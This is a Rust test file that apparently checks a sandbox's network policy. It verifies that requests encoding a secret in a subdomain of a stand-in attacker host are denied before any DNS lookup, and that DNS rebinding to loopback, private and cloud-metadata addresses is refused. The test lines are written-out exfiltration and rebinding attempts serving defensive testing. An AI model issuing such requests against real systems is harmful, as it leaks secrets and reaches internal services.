//! Plays with names: asks for them to say something, and has them mean what they should not.

use std::{
    io::{Read as _, Write as _},
    net::TcpListener,
    sync::Arc,
    sync::atomic::{AtomicUsize, Ordering},
    thread,
};

use crate::{
    http::{outcome, request},
    names::{A, NameServer, in_own_network},
};

/// A server in the clear at port 80 of this network, and how often it was reached.
fn serve() -> Arc<AtomicUsize> {
    let listener = TcpListener::bind("127.0.0.1:80").unwrap();
    let reached = Arc::new(AtomicUsize::new(0));
    let counted = reached.clone();
    thread::spawn(move || {
        for mut stream in listener.incoming().map_while(Result::ok) {
            counted.fetch_add(1, Ordering::SeqCst);
            thread::spawn(move || {
                // An answer before its request would be one that nobody asked for.
                let _ = stream.read(&mut [0; 4096]);
                let _ = stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 5\r\nconnection: close\r\n\r\nhello");
                std::io::copy(&mut stream, &mut std::io::sink())
            });
        }
    });
    reached
}

/// NE24
#[test]
fn no_name_is_looked_up_before_its_request_was_allowed() {
    crate::guests::guest("rogue");
    if in_own_network("http_names::no_name_is_looked_up_before_its_request_was_allowed") {
        return;
    }
    let names = NameServer::start();
    for line in [
        "GET https://c2VjcmV0.attacker.test/",
        "GET https://c2VjcmV0.allowed.test/",
        "GET http://c2VjcmV0.wild.test/",
        "POST https://c2VjcmV0.wild.test/",
        "GET https://c2VjcmV0.wild.test:444/",
        "GET https://allowed.test@c2VjcmV0.attacker.test/",
    ] {
        assert!(request(line).run().said().starts_with("denied: ErrorCode::HttpRequest"), "{line}");
    }
    assert_eq!(names.asked(), []);
    let granted = request("GET https://a.wild.test/").run();
    assert!(granted.said().starts_with("denied: ErrorCode::DnsError(") && granted.said().contains("NXDOMAIN"), "{}", granted.said());
    assert!(names.asked().iter().all(|(name, _)| name == "a.wild.test"));
    let (_, outcome) = outcome(&granted);
    assert_eq!(outcome["failed"]["message"], "`a.wild.test` does not exist: no name server knows it");
}

/// NE09
#[test]
fn a_name_means_the_address_that_was_checked_and_no_other() {
    crate::guests::guest("rogue");
    if in_own_network("http_names::a_name_means_the_address_that_was_checked_and_no_other") {
        return;
    }
    let names = NameServer::start();
    let reached = serve();
    let get = |private: &str| {
        let attack = request("GET http://rebound.test/|connect=2000");
        let attack =
            if private.is_empty() { attack } else { attack.endpoint(&format!("'rebound.test:80' = {{ private = ['{private}'] }}")) };
        attack.run().said().to_owned()
    };
    for addresses in [
        &["127.0.0.1"][..],
        &["10.0.0.1"],
        &["::1"],
        &["::ffff:127.0.0.1"],
        &["64:ff9b::7f00:1"],
        &["fd00::1"],
        &["169.254.169.254"],
        // One of several is enough.
        &["93.184.215.14", "127.0.0.1"],
        &["93.184.215.14", "::1"],
    ] {
        names.set("rebound.test", addresses);
        assert_eq!(get(""), "denied: ErrorCode::DestinationIpProhibited", "{addresses:?}");
    }
    names.set("rebound.test", &["169.254.169.254"]);
    assert_eq!(get("169.254.0.0/16"), "denied: ErrorCode::DestinationIpProhibited");
    names.set("rebound.test", &["127.0.0.1", "10.0.0.1"]);
    assert_eq!(get("127.0.0.0/8"), "denied: ErrorCode::DestinationIpProhibited");
    assert_eq!(reached.load(Ordering::SeqCst), 0);
    names.set("rebound.test", &["127.0.0.1"]);
    names.asked();
    let told = get("127.0.0.0/8");
    assert!(told.starts_with("ok: 200 "), "{told}");
    assert_eq!(reached.load(Ordering::SeqCst), 1);
    let asked = names.asked();
    assert_eq!(
        asked.iter().filter(|(_, kind)| *kind == A).count(),
        1,
        "it was looked up once, and is not looked up again to connect: {asked:?}"
    );
}
